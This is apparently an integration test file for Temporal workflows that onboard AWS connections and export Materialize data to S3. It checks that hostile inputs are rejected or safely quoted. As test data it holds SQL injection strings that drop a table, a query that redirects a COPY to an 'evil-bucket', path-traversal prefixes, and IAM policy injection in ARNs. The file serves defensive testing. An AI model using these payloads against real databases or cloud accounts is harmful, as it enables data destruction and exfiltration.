/**
 * The bad-input suite, second half: the workflows started with malformed and hostile input exactly as the
 * Web UI would start them (one raw JSON value, any shape), on the real stack. Each must fail at once with a
 * non-retryable InvalidInputError that names the field, before any side effect: its history holds no activity
 * at all, and moto and mz-local hold no new bucket, role, policy or connection. Hostile names that are valid
 * quoted identifiers reach Materialize only quoted: the table they try to drop is still there.
 */
import { strict as assert } from 'node:assert';
import { randomUUID } from 'node:crypto';
import { CreateBucketCommand, ListBucketsCommand, ListObjectsV2Command, PutObjectCommand } from '@aws-sdk/client-s3';
import { ListPoliciesCommand, ListRolesCommand } from '@aws-sdk/client-iam';
import { ApplicationFailure, WorkflowFailedError, type WorkflowHandle } from '@temporalio/client';
import { sharedStack, type TestStack } from '../helpers/stack';
import { msToTs } from '@temporalio/common/lib/time';
import {
  HUGE,
  NON_UTF8_AND_INVISIBLE,
  PASTED_SECRET,
  POLICY_INJECTION,
  SQL_INJECTION,
  VALID_EXPIRE_TARGET,
  VALID_EXPORT,
  VALID_NOTIFY,
  VALID_OFFBOARD,
  VALID_ONBOARD,
  WRONG_TOP_LEVEL,
} from '../helpers/hostile-values';
import { printTable } from './support/report';
import { bulkExport, onboardAwsConnection } from '../../workflows';
import type { BulkExportInput } from '../../common/export/types';

/** A table mz-local's --sample-data creates; injected SQL would try to drop it. */
const SAMPLE_TABLE = 'orders';
/** A bucket holding an export's published folders: hostile expiry input must delete none of them. */
const EXPIRY_BUCKET = `bad-input-expiry-${randomUUID().slice(0, 8)}`;
const EXPIRY_KEYS = ['20240101T000000.000Z', '20240102T000000.000Z', '20240103T000000.000Z'].flatMap((t) => [
  `exports/orders-daily/${t}/attempt-001/part-0.csv`,
  `exports/orders-daily/${t}/attempt-001/manifest.json`,
  `exports/orders-daily/${t}/attempt-001/_SUCCESS`,
  `exports/orders-daily/${t}/_claims/publication.json`,
]);

interface Case {
  workflow: 'onboardAwsConnection' | 'offboardAwsConnection' | 'bulkExport' | 'expireExports';
  label: string;
  input: unknown;
  /** Text the failure message must contain (the field it names). */
  field: string;
}

const cases: Case[] = [];
const add = (workflow: Case['workflow'], label: string, input: unknown, field: string) => cases.push({ workflow, label, input, field });

for (const v of WRONG_TOP_LEVEL) {
  add('onboardAwsConnection', `input ${JSON.stringify(v)}`, v, 'input');
  add('bulkExport', `input ${JSON.stringify(v)}`, v, 'input');
}
add('onboardAwsConnection', 'bucket: policy JSON injection', { ...VALID_ONBOARD, bucket: POLICY_INJECTION[0] }, 'bucket');
add('onboardAwsConnection', 'prefix: policy JSON injection', { ...VALID_ONBOARD, prefix: POLICY_INJECTION[1] }, 'prefix');
add('onboardAwsConnection', 'prefix: wildcard', { ...VALID_ONBOARD, prefix: 'exports/*' }, 'prefix');
add('onboardAwsConnection', 'prefix: path traversal', { ...VALID_ONBOARD, prefix: '../other-team' }, 'prefix');
add('onboardAwsConnection', 'connectionName: SQL injection', { ...VALID_ONBOARD, connectionName: SQL_INJECTION[2] }, 'connectionName');
add('onboardAwsConnection', 'roleName: a megabyte', { ...VALID_ONBOARD, roleName: HUGE }, 'roleName');
add('onboardAwsConnection', 'policyName: lone surrogate', { ...VALID_ONBOARD, policyName: NON_UTF8_AND_INVISIBLE[0] }, 'policyName');
add('onboardAwsConnection', 'materializePrincipal: wildcard', { ...VALID_ONBOARD, materializePrincipal: '*' }, 'materializePrincipal');
add('onboardAwsConnection', 'createBucket: "yes"', { ...VALID_ONBOARD, createBucket: 'yes' }, 'createBucket');
add('onboardAwsConnection', 'retry: wrong type', { ...VALID_ONBOARD, retry: 'fast' }, 'retry');
add('offboardAwsConnection', 'connectionName: SQL injection', { ...VALID_OFFBOARD, connectionName: SQL_INJECTION[1] }, 'connectionName');
add('offboardAwsConnection', 'deleteData without bucket', { ...VALID_OFFBOARD, deleteData: true }, 'bucket');
add('offboardAwsConnection', 'prefix: wildcard with deleteData', { ...VALID_OFFBOARD, deleteData: true, bucket: 'audit-bucket', prefix: '*' }, 'prefix');
add('bulkExport', 'object: SQL injection (unquoted)', { ...VALID_EXPORT, object: SQL_INJECTION[0] }, 'object');
add('bulkExport', 'connectionName: comment injection', { ...VALID_EXPORT, connectionName: SQL_INJECTION[3] }, 'connectionName');
add('bulkExport', 'query: stacked statement', { ...VALID_EXPORT, object: undefined, query: `SELECT 1; DROP TABLE ${SAMPLE_TABLE}` }, 'query');
add('bulkExport', 'query: closes the COPY', { ...VALID_EXPORT, object: undefined, query: `SELECT 1) TO 's3://evil-bucket/x' WITH (FORMAT = 'csv') --` }, 'query');
add('bulkExport', 'bucket: policy JSON injection', { ...VALID_EXPORT, bucket: POLICY_INJECTION[0] }, 'bucket');
add('bulkExport', 'prefix: path traversal', { ...VALID_EXPORT, prefix: 'exports/../../etc' }, 'prefix');
add('bulkExport', 'exportName: path traversal', { ...VALID_EXPORT, exportName: '../x' }, 'exportName');
add('bulkExport', 'exportName: a megabyte', { ...VALID_EXPORT, exportName: HUGE }, 'exportName');
add('bulkExport', 'format: number', { ...VALID_EXPORT, format: 1 }, 'format');
add('bulkExport', 'logicalTime: not a time', { ...VALID_EXPORT, logicalTime: `2024'; DROP TABLE ${SAMPLE_TABLE}; --` }, 'logicalTime');
add('bulkExport', 'tuning: wrong type', { ...VALID_EXPORT, tuning: [] }, 'tuning');
add('bulkExport', 'unknown field', { ...VALID_EXPORT, bukcet: 'x' }, 'bukcet');
// Publication events: the export must not run (so nothing is published or announced) when its notify is bad.
const notify = (target: string, value: unknown) => ({ ...VALID_EXPORT, notify: { ...VALID_NOTIFY, [target]: value } });
add('bulkExport', 'notify: not an object', { ...VALID_EXPORT, notify: 'arn:aws:sns:us-east-1:123456789012:t' }, 'notify');
add('bulkExport', 'notify.sns: not an ARN', notify('sns', { topicArn: 'exports-published' }), 'notify.sns.topicArn');
add('bulkExport', 'notify.sns: an SQS ARN', notify('sns', { topicArn: 'arn:aws:sqs:us-east-1:123456789012:q' }), 'notify.sns.topicArn');
add('bulkExport', 'notify.sns: region wildcard', notify('sns', { topicArn: 'arn:aws:sns:*:123456789012:t' }), 'notify.sns.topicArn');
add('bulkExport', 'notify.sns: account injection', notify('sns', { topicArn: 'arn:aws:sns:us-east-1:123456789012:t","Resource":"*' }), 'notify.sns.topicArn');
add('bulkExport', 'notify.sqs: credentials in the URL', notify('sqs', { queueUrl: `https://AKIAIOSFODNN7EXAMPLE:${encodeURIComponent(PASTED_SECRET)}@sqs.us-east-1.amazonaws.com/123456789012/q` }), 'notify.sqs.queueUrl');
add('bulkExport', 'notify.eventBridge: a rule ARN', notify('eventBridge', { eventBusName: 'arn:aws:events:us-east-1:123456789012:rule/r' }), 'notify.eventBridge.eventBusName');
add('bulkExport', 'notify.temporal: empty workflow type', notify('temporal', { workflowType: '', taskQueue: 'q' }), 'notify.temporal.workflowType');
add('bulkExport', 'notify.sns: a secret field', notify('sns', { ...VALID_NOTIFY.sns, secretAccessKey: PASTED_SECRET }), 'notify.sns.secretAccessKey');
add('bulkExport', 'notify.sns: a megabyte attribute', notify('sns', { ...VALID_NOTIFY.sns, messageAttributes: HUGE }), 'notify.sns.messageAttributes');
// Retention: each aimed at a bucket with published folders, several with apply; none may list or delete anything.
const expire = (fields: object, extra: object = { apply: true }) => ({ targets: [{ ...VALID_EXPIRE_TARGET, bucket: EXPIRY_BUCKET, ...fields }], ...extra });
add('expireExports', 'input: not an object', 'orders-daily', 'input');
add('expireExports', 'targets: empty', { targets: [], apply: true }, 'targets');
add('expireExports', 'keepLast: negative', expire({ keepLast: -1 }), 'targets[0].keepLast');
add('expireExports', 'keepLast: zero', expire({ keepLast: 0 }), 'targets[0].keepLast');
add('expireExports', 'keepLast: huge', expire({ keepLast: 1e308 }), 'targets[0].keepLast');
add('expireExports', 'keepLast: text', expire({ keepLast: 'NaN' }), 'targets[0].keepLast');
add('expireExports', 'keepWithin: unparsable', expire({ keepLast: undefined, keepWithin: '30 days' }), 'targets[0].keepWithin');
add('expireExports', 'keepWithin: zero', expire({ keepLast: undefined, keepWithin: '0s' }), 'targets[0].keepWithin');
add('expireExports', 'no rule', expire({ keepLast: undefined }), 'targets[0]');
add('expireExports', 'prefix: traversal', expire({ prefix: 'exports/..' }), 'targets[0].prefix');
add('expireExports', 'prefix: ..', expire({ prefix: '..' }), 'targets[0].prefix');
add('expireExports', 'prefix: absolute', expire({ prefix: '/exports' }), 'targets[0].prefix');
add('expireExports', 'prefix: wildcard', expire({ prefix: 'exports/*' }), 'targets[0].prefix');
add('expireExports', 'name: traversal', expire({ name: '../orders-daily' }), 'targets[0].name');
add('expireExports', 'bucket: policy injection', expire({ bucket: POLICY_INJECTION[0] }), 'targets[0].bucket');
add('expireExports', 'confirmed: another bucket', expire({}, { apply: true, confirmed: ['s3://other-bucket/exports/orders-daily/20240101T000000.000Z/'] }), 'confirmed[0]');
add('expireExports', 'confirmed: traversal', expire({}, { apply: true, confirmed: [`s3://${EXPIRY_BUCKET}/exports/orders-daily/../x/20240101T000000.000Z/`] }), 'confirmed[0]');
add('expireExports', 'confirmed without apply', expire({}, { confirmed: [`s3://${EXPIRY_BUCKET}/exports/orders-daily/20240101T000000.000Z/`] }), 'confirmed');
add('expireExports', 'apply: "yes"', expire({}, { apply: 'yes' }), 'apply');
add('expireExports', 'a secret field', expire({}, { apply: true, awsSecretAccessKey: PASTED_SECRET }), 'awsSecretAccessKey');

describe('bad input, part 2: workflows started with bad input fail at once, before any side effect', function () {
  this.timeout(180_000);
  let stack: TestStack;

  before(async function () {
    this.timeout(180_000);
    stack = await sharedStack();
    await stack.aws.s3.send(new CreateBucketCommand({ Bucket: EXPIRY_BUCKET }));
    for (const Key of [...EXPIRY_KEYS, 'exports/orders-daily/_latest.json']) await stack.aws.s3.send(new PutObjectCommand({ Bucket: EXPIRY_BUCKET, Key, Body: 'x' }));
  });

  async function inventory() {
    const buckets = (await stack.aws.s3.send(new ListBucketsCommand({}))).Buckets?.map((b) => b.Name!) ?? [];
    const roles = (await stack.aws.iam.send(new ListRolesCommand({ MaxItems: 1000 }))).Roles?.map((r) => r.RoleName!) ?? [];
    const policies = (await stack.aws.iam.send(new ListPoliciesCommand({ Scope: 'Local', MaxItems: 1000 }))).Policies?.map((p) => p.PolicyName!) ?? [];
    const mz = await stack.mz();
    try {
      const connections = (await mz.query('SELECT name FROM mz_catalog.mz_connections')).rows.map((r) => r.name as string);
      const sample = Number((await mz.query(`SELECT count(*) AS n FROM ${SAMPLE_TABLE}`)).rows[0].n);
      const expiryObjects = ((await stack.aws.s3.send(new ListObjectsV2Command({ Bucket: EXPIRY_BUCKET }))).Contents ?? []).map((o) => o.Key!).sort();
      return { buckets, roles, policies, connections, sample, expiryObjects };
    } finally {
      await mz.end();
    }
  }

  it('rejects each with InvalidInputError naming the field, with no activity run and nothing created', async () => {
    const before = await inventory();
    const id = randomUUID().slice(0, 8);
    const started: { c: Case; handle: WorkflowHandle }[] = await Promise.all(
      cases.map(async (c, i) => ({
        c,
        handle: await stack.temporal.workflow.start(c.workflow, {
          taskQueue: stack.taskQueue,
          workflowId: `bad-input-${id}-${i}`,
          args: [c.input],
          workflowExecutionTimeout: '1 minute',
        }),
      })),
    );
    const rows: string[][] = [];
    const problems: string[] = [];
    for (const { c, handle } of started) {
      const t0 = Date.now();
      const err = await handle.result().then(
        () => undefined,
        (e: unknown) => e,
      );
      const history = await handle.fetchHistory();
      const activities = (history.events ?? []).filter((e) => e.activityTaskScheduledEventAttributes).length;
      const taskFailures = (history.events ?? []).filter((e) => e.workflowTaskFailedEventAttributes).length;
      const cause = err instanceof WorkflowFailedError ? err.cause : undefined;
      const ok =
        cause instanceof ApplicationFailure &&
        cause.type === 'InvalidInputError' &&
        cause.nonRetryable &&
        cause.message.includes(c.field) &&
        cause.message.length < 4000 &&
        activities === 0 &&
        taskFailures === 0;
      // What to change, not only where: every message says what a valid value looks like or what to do.
      // (checked for the notify and expiry cases; the older cases' wording varies: "use ...", "such as ...")
      const newCase = c.workflow === 'expireExports' || c.field.startsWith('notify');
      const saysWhatToChange = !newCase || (cause instanceof ApplicationFailure && /must|give|write|is required|is not a field|credentials never|confirm only|applies only|name at least/.test(cause.message));
      const leaksSecret = cause instanceof ApplicationFailure && cause.message.includes(PASTED_SECRET.slice(0, 20));
      if (!ok || !saysWhatToChange || leaksSecret) {
        problems.push(
          `${c.workflow} ${c.label}: ${cause instanceof ApplicationFailure ? `${cause.type} nonRetryable=${cause.nonRetryable}` : String(err)}; ` +
            `${activities} activities, ${taskFailures} workflow task failures${leaksSecret ? ', the pasted secret repeated' : ''}; message: ${String((cause as Error | undefined)?.message).slice(0, 200)}`,
        );
      }
      rows.push([c.workflow, c.label, cause instanceof ApplicationFailure ? String(cause.type) : 'no failure', String(activities), `${Date.now() - t0} ms`, ok && saysWhatToChange && !leaksSecret ? 'rejected' : 'WRONG']);
    }
    printTable('bad input through Temporal', ['workflow', 'input', 'failure type', 'activities', 'waited', 'outcome'], rows);
    assert.deepEqual(problems, []);
    assert.deepEqual(await inventory(), before, 'something was created or dropped');
    assert.equal(before.expiryObjects.length, EXPIRY_KEYS.length + 1, 'the expiry bucket holds the seeded folders');
  });

  it('rejects a start with no argument at all (the Web UI with an empty input)', async () => {
    for (const workflow of ['onboardAwsConnection', 'offboardAwsConnection', 'bulkExport', 'expireExports']) {
      const handle = await stack.temporal.workflow.start(workflow, {
        taskQueue: stack.taskQueue,
        workflowId: `bad-input-noarg-${workflow}-${randomUUID().slice(0, 8)}`,
        args: [] as unknown as [never],
        workflowExecutionTimeout: '1 minute',
      });
      const err = await handle.result().then(
        () => undefined,
        (e: unknown) => e,
      );
      assert.ok(err instanceof WorkflowFailedError, `${workflow}: ${String(err)}`);
      assert.ok(err.cause instanceof ApplicationFailure && err.cause.type === 'InvalidInputError', `${workflow}: ${err.cause?.message}`);
      const history = await handle.fetchHistory();
      assert.equal((history.events ?? []).filter((e) => e.activityTaskScheduledEventAttributes).length, 0);
    }
  });

  it('fails cleanly, without a stuck workflow task, on a payload that is not UTF-8 JSON', async () => {
    const workflowId = `bad-input-bytes-${randomUUID().slice(0, 8)}`;
    await stack.temporal.connection.workflowService.startWorkflowExecution({
      namespace: 'default',
      workflowId,
      requestId: randomUUID(),
      workflowType: { name: 'bulkExport' },
      taskQueue: { name: stack.taskQueue },
      input: {
        payloads: [
          { metadata: { encoding: new TextEncoder().encode('json/plain') }, data: new Uint8Array([0x7b, 0x22, 0xff, 0xfe, 0x22, 0x3a, 0x31, 0x7d]) },
        ],
      },
      workflowExecutionTimeout: msToTs('30 seconds'),
    });
    const handle = stack.temporal.workflow.getHandle(workflowId);
    const err = await handle.result().then(
      () => undefined,
      (e: unknown) => e,
    );
    const history = await handle.fetchHistory();
    const taskFailures = (history.events ?? []).filter((e) => e.workflowTaskFailedEventAttributes).length;
    assert.ok(err instanceof WorkflowFailedError, String(err));
    assert.equal((history.events ?? []).filter((e) => e.activityTaskScheduledEventAttributes).length, 0);
    assert.ok(
      err.cause instanceof ApplicationFailure,
      `the run ended by ${err.cause?.constructor.name} (${err.cause?.message}) after ${taskFailures} workflow task failures, not by rejecting the input`,
    );
  });

  it('quoted identifiers and string literals carrying SQL reach Materialize quoted: the target table survives', async () => {
    const tag = randomUUID().slice(0, 8);
    const target = { bucket: `bad-input-${tag}`, prefix: 'exports', connectionName: `bad_input_${tag}` };
    await stack.temporal.workflow.execute(onboardAwsConnection, {
      taskQueue: stack.taskQueue,
      workflowId: `bad-input-onboard-${tag}`,
      args: [{ ...target, roleName: `bad-input-role-${tag}`, policyName: `bad-input-policy-${tag}`, retry: { initialIntervalSeconds: 0.2, maximumIntervalSeconds: 1 } }],
      workflowExecutionTimeout: '2 minutes',
    });
    const before = await inventory();
    const base = { ...target, format: 'csv', maxAttempts: 1 };
    const cases: { input: Record<string, unknown>; expect: 'succeeds' | 'UserFixableError' }[] = [
      // A valid (odd) quoted name: Materialize is asked for an object of exactly that name and has none.
      { input: { ...base, exportName: 'quoted-object', object: `"x""; DROP TABLE ${SAMPLE_TABLE}; --"` }, expect: 'UserFixableError' },
      { input: { ...base, exportName: 'quoted-connection', object: SAMPLE_TABLE, connectionName: `"c"" ; DROP TABLE ${SAMPLE_TABLE}; --"` }, expect: 'UserFixableError' },
      // SQL inside a string literal is data: the export succeeds and writes that text.
      { input: { ...base, exportName: 'literal-query', query: `SELECT '1''); DROP TABLE ${SAMPLE_TABLE}; --' AS x` }, expect: 'succeeds' },
    ];
    const rows: string[][] = [];
    for (const { input, expect } of cases) {
      const outcome = await stack.temporal.workflow
        .execute(bulkExport, {
          taskQueue: stack.taskQueue,
          workflowId: `bad-input-quoted-${input.exportName}-${tag}`,
          args: [input as unknown as BulkExportInput], // deliberately hostile input: the workflow must reject or quote it
          workflowExecutionTimeout: '1 minute',
        })
        .then(
          (r) => ({ ok: true as const, rows: r.rows }),
          (e: unknown) => ({ ok: false as const, e }),
        );
      let got: string;
      if (outcome.ok) got = 'succeeds';
      else {
        let c: Error | undefined = (outcome.e as Error & { cause?: Error }).cause;
        while (c && !(c instanceof ApplicationFailure)) c = (c as Error & { cause?: Error }).cause;
        got = c instanceof ApplicationFailure ? String(c.type) : String(outcome.e);
        rows.push([String(input.exportName), got, c?.message.slice(0, 100) ?? '']);
      }
      if (outcome.ok) rows.push([String(input.exportName), got, `${outcome.rows} row(s) exported`]);
      assert.equal(got, expect, `${input.exportName}`);
    }
    printTable('hostile but valid names reach SQL quoted', ['export', 'outcome', 'detail'], rows);
    const after = await inventory();
    assert.equal(after.sample, before.sample, `${SAMPLE_TABLE} lost rows`);
    assert.deepEqual(after.connections, before.connections);
  });
});
